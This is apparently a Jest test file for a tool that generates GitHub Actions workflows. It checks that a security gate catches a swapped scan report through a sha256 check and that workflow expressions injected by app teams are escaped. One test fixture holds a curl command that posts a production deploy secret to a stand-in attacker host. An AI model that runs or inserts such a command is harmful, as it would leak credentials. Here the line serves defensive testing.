/**
 * The app team against the GitHub Actions gate: every job of the run can upload artifacts, and a
 * job's commands can reach the runner's token (the runner runs them with its own rights), so an
 * artifact name is no protection: a job running after the scan could upload a clean report under
 * the scan's findings artifact name (`overwrite: true`). The gate therefore checks what it
 * downloaded against the sha256 the scan job published as a job output, which only the scan job's
 * own steps can set.
 */
import * as fs from 'fs';
import * as path from 'path';
import * as YAML from 'yaml';
import { CommandStep, GatePolicy, GateSeverity, Pipeline, Source, Stage } from '../../src/core';
import { GitHubActionsEngine } from '../../src/github';
import * as security from '../../src/security';
import { scratchRoot, withTools } from '../e2e/support/tools';
import { newRun, runJob } from '../github/workflow-run';

const FIXTURE = path.join(__dirname, '../../../shared/fixtures/bandit/bandit-1.6.2.json');
const REPORT = '.gatehouse/reports/bandit/bandit.json';
const CLEAN = JSON.stringify({ errors: [], generated_at: '2026-11-01T00:00:00Z', metrics: { _totals: {} }, results: [] });
const { root, cleanup } = scratchRoot('gatehouse-adv-github-');
afterAll(cleanup);

const IMAGE = 'python:3.12.7-slim-bookworm@sha256:032c52613401895aa3d418a4c563d2d05f993bc3ecc065c8f4e2280978acd249';

function pipeline(): Pipeline {
  return new Pipeline({
    name: 'app',
    source: Source.gitHub({ owner: 'acme', repository: 'app', branch: 'main' }),
    defaults: { image: IMAGE },
    stages: [
      Stage.securityStage('oast', { gate: new GatePolicy({ failOn: GateSeverity.HIGH }), steps: [new security.Bandit({ gate: new GatePolicy({ failOn: GateSeverity.HIGH }) })] }),
      Stage.buildStage('build', { requires: [], steps: [new CommandStep({ name: 'compile', commands: ['make'] })] }),
    ],
  });
}

const engine = new GitHubActionsEngine({ pipeline: pipeline() });
const workflow = YAML.parse(engine.workflowYaml);

function source(report: string): string {
  const dir = fs.mkdtempSync(path.join(root, 'src-'));
  for (const [p, content] of Object.entries(engine.files)) {
    fs.mkdirSync(path.dirname(path.join(dir, p)), { recursive: true });
    fs.writeFileSync(path.join(dir, p), content);
  }
  fs.mkdirSync(path.dirname(path.join(dir, REPORT)), { recursive: true });
  fs.writeFileSync(path.join(dir, REPORT), report);
  return dir;
}

const SCAN_STEPS = ['checkout', 'keep reports and outputs', 'upload findings for the gate'];

describe('gate inputs on GitHub Actions', () => {
  withTools(['node'], 'fails closed (exit 2) when another job replaced the scan\'s findings artifact with a clean report', () => {
    // GIVEN the scan job ran over the real report (a HIGH finding) and published its findings
    const run = newRun(fs.mkdtempSync(path.join(root, 'run-')));
    const scan = runJob(run, workflow, 'oast-bandit', { source: source(fs.readFileSync(FIXTURE, 'utf8')), only: SCAN_STEPS });
    expect(scan.outputs['findings-sha256']).toMatch(/^[0-9a-f]{64}$/);
    // WHEN a later job uploads a clean report under the same artifact name (upload-artifact overwrite: true)
    const artifact = run.artifacts.get('gatehouse-findings-oast-bandit')!;
    fs.writeFileSync(path.join(artifact, REPORT), CLEAN);
    // THEN the gate refuses to decide over it
    const gate = runJob(run, workflow, 'oast-bandit-gate', { source: source(CLEAN) });
    const step = gate.steps.find((s) => s.name === 'gate')!;
    expect(step.code).toBe(2);
    expect(step.stdout).toContain('is not what its scan job wrote');
    expect(gate.outputs.verdict).toBe('ERROR');
  });

  withTools(['node'], 'the same clean report passes the gate when it is what the scan job wrote: the sha256 check is what stops the swap', () => {
    const run = newRun(fs.mkdtempSync(path.join(root, 'run-')));
    runJob(run, workflow, 'oast-bandit', { source: source(CLEAN), only: SCAN_STEPS });
    const gate = runJob(run, workflow, 'oast-bandit-gate', { source: source(CLEAN) });
    expect(gate.steps.find((s) => s.name === 'gate')!.code).toBe(0);
    expect(gate.outputs.verdict).toBe('PASSED');
  });

  withTools(['node'], 'fails closed when the scan job published no sha256 (a job output another job cannot fill)', () => {
    const run = newRun(fs.mkdtempSync(path.join(root, 'run-')));
    runJob(run, workflow, 'oast-bandit', { source: source(CLEAN), only: SCAN_STEPS });
    run.jobOutputs.set('oast-bandit', {});
    const gate = runJob(run, workflow, 'oast-bandit-gate', { source: source(CLEAN) });
    expect(gate.steps.find((s) => s.name === 'gate')!.code).toBe(2);
    expect(gate.outputs.verdict).toBe('ERROR');
  });

  test('each gate reads the sha256 of exactly the scan jobs it needs, set by the scan job\'s last staging step after its commands', () => {
    for (const id of ['oast-bandit-gate', 'oast-stage-gate']) {
      const job = workflow.jobs[id];
      const env = job.steps.find((s: any) => s.id === 'gate').env;
      expect(Object.values(env)).toEqual(['${{ needs.oast-bandit.outputs.findings-sha256 }}']);
      expect(job.needs).toEqual(['oast-bandit']);
    }
    const scan = workflow.jobs['oast-bandit'];
    const ids = scan.steps.map((s: any) => s.id);
    expect(scan.outputs['findings-sha256']).toBe('${{ steps.keep.outputs.findings-sha256 }}');
    expect(ids.indexOf('keep')).toBeGreaterThan(ids.indexOf('run'));
    // no other job publishes an output of that name
    for (const [id, job] of Object.entries(workflow.jobs as Record<string, any>)) {
      if (id !== 'oast-bandit') expect(job.outputs?.['findings-sha256']).toBeUndefined();
    }
  });

  test('a gate job runs nothing of the app team: the gate image, checkout without credentials, the download, the gate script, uploads', () => {
    const job = workflow.jobs['oast-bandit-gate'];
    expect(job.container.image).toBe(pipeline().gateImage);
    expect(job.steps.map((s: any) => s.uses?.split('@')[0] ?? `run:${s.id}`)).toEqual([
      'actions/checkout', 'actions/download-artifact', 'run:gate', 'actions/upload-artifact', 'github/codeql-action/upload-sarif',
    ]);
    expect(job.steps[0].with['persist-credentials']).toBe(false);
  });

  test('a ${{ }} the app team writes in a command or an env value is not evaluated: no secret the step was not given reaches it', () => {
    const p = new Pipeline({
      name: 'app',
      source: Source.gitHub({ owner: 'acme', repository: 'app' }),
      defaults: { image: IMAGE },
      stages: [Stage.buildStage('build', {
        steps: [new CommandStep({ name: 'x', commands: ['curl -d "${{ secrets.PROD_DEPLOY_KEY }}" https://attacker.example'], env: { T: '${{github.token}}' } })],
      })],
    });
    const yaml = new GitHubActionsEngine({ pipeline: p }).workflowYaml;
    const expressions = [...yaml.matchAll(/\$\{\{([^}]*)\}\}/g)].map((m) => m[1].trim());
    expect(expressions.filter((e) => e.includes('secrets') || e.includes('github.token'))).toEqual([]);
    expect(yaml).toContain("curl -d \"${{ '${{' }} secrets.PROD_DEPLOY_KEY }}\"");
  });
});
